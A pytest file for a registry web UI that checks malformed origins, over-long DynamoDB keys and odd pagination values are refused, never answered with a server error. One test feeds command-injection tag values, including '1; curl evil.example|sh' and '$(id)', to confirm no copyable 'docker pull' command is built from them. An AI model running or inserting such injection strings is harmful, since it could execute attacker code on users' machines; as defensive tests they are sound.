"""Odd input is refused or passed over: it is never answered with a 500."""

from __future__ import annotations

import secrets
from urllib.parse import urlencode

import pytest

from chalicelib.domain.access import Actor
from chalicelib.service import webhooks
from tests.conformance.bodies import CONFIG, LAYER, image, push
from tests.conformance.cases import blob, post
from tests.page.fixture import Browser, accounts_world, given
from tests.page.test_costs import IMAGE_ID, Counted, counted  # noqa: F401
from tests.support.stack import Stack
from tests.support.world import SettableClock


@pytest.mark.parametrize(
    "origin", ["http://[", "http://[::1", "http://]", "http://a[b]", "//", "", "http://\u2100"]
)
def test_a_form_with_an_origin_that_is_no_address_is_refused(origin: str) -> None:
    browser = Browser(accounts_world())
    browser.sign_in()
    assert browser.send("/ui/sign-out", {}, Origin=origin).status == 403


@pytest.mark.parametrize("tag", ["1; curl evil.example|sh", "1`id`", "1\nid", "$(id)", "-x", "a b"])
def test_an_address_puts_no_words_into_the_command_that_is_copied(
    counted: Counted,  # noqa: F811
    tag: str,
) -> None:
    browser = Browser(counted.world)
    browser.sign_in()
    url = f"/ui/r/alice/old/-/images/{IMAGE_ID}"
    assert "/alice/old:1.0" in browser.get(f"{url}?tag=1.0").body.decode()
    page = browser.get(f"{url}?{urlencode({'tag': tag})}").body.decode()
    assert "docker pull" not in page


# --- longer than a key of DynamoDB ----------------------------------------------------------------

# Above the 1024 bytes of a sort key, and the 2048 of a partition.
LONG = "a" * 2500


@pytest.fixture(scope="module")
def browser(stack: Stack) -> Browser:
    """Somebody signed in, with a team, its webhook and a repository, all in DynamoDB."""
    clock = SettableClock()
    store = stack.metadata(clock=clock, table=f"odd-{secrets.token_hex(4)}")
    parts = dict.fromkeys(("metadata", "accounts", "search", "usage", "webhooks"), store)
    world = accounts_world(clock=clock, **parts)
    made = post("/v2/_roadstead/teams", {"name": "crew"}, status=201)
    pushed = blob("alice/app", CONFIG), blob("alice/app", LAYER), push("alice/app", "1", image())
    given(world, "alice", made, *pushed)
    webhooks.create(world, Actor("alice"), "crew", {"url": "https://hooks.example/"})
    visitor = Browser(world)
    visitor.sign_in()
    return visitor


LOOKED_AT = {
    "/ui/teams/{}": 404,
    "/ui/teams/{}/repositories": 404,
    "/ui/teams/{}/members": 404,
    "/ui/teams/{}/tokens": 404,
    "/ui/teams/{}/webhooks": 404,
    "/ui/teams/{}/webhooks/x": 404,
    "/ui/teams/crew/webhooks/{}": 404,
}


@pytest.mark.parametrize("name", ["alice", "root"])
@pytest.mark.parametrize(("url", "status"), LOOKED_AT.items())
def test_what_is_named_with_more_than_a_key_holds_is_not_there(
    browser: Browser, name: str, url: str, status: int
) -> None:
    visitor = Browser(browser.world)
    visitor.sign_in(name)
    assert visitor.get(url.format(LONG)).status == status


SENT: dict[str, tuple[str, dict[str, str], int]] = {
    "a team": ("/ui/teams/{}", {"days": "1"}, 404),
    "a team to join": ("/ui/join", {"team": "{}", "code": "x"}, 404),
    "a member's role": ("/ui/teams/crew/members", {"user": "{}", "role": "owner"}, 404),
    "a member": ("/ui/teams/crew/members", {"user": "{}", "role": "none"}, 404),
    "a token": ("/ui/tokens/{}/revoke", {}, 404),
    "a team's token": ("/ui/teams/crew/tokens/{}/revoke", {}, 404),
    "a webhook": ("/ui/teams/crew/webhooks/{}", {"act": "ping"}, 404),
    # Who has no grant is in the state that was asked for.
    "a grant": ("/ui/r/alice/app/-/grants", {"user": "{}", "access": "none"}, 303),
}


@pytest.mark.parametrize(("url", "form", "status"), SENT.values(), ids=SENT)
def test_forms_that_name_more_than_a_key_holds_change_nothing(
    browser: Browser, url: str, form: dict[str, str], status: int
) -> None:
    browser.get("/ui/password")
    fields = {key: value.format(LONG) for key, value in form.items()}
    assert browser.send(url.format(LONG), fields).status == status


@pytest.mark.parametrize("after", [LONG, "%00" * 1100, "%F4%8F%BF%BF" * 400])
def test_deliveries_after_more_than_a_key_holds_are_a_page(browser: Browser, after: str) -> None:
    page = browser.get("/ui/teams/crew/webhooks").body.decode()
    url = page.partition('href="/ui/teams/crew/webhooks/')[2].partition('"')[0]
    assert len(url) == 16
    assert browser.get(f"/ui/teams/crew/webhooks/{url}?after={after}").status == 200
